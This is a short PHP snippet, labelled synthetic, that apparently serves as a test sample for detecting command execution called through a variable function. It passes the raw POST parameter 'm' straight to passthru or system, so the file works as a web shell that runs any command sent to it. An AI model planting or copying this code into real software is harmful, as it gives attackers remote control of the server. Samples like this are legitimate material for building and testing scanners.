<?php
// synthetic: a command function chosen from literals, called through a variable
$m = $_POST['m'];
$fn = "passthru";
if ($m == "1") { $fn = "system"; }
$fn("$m 2>&1");
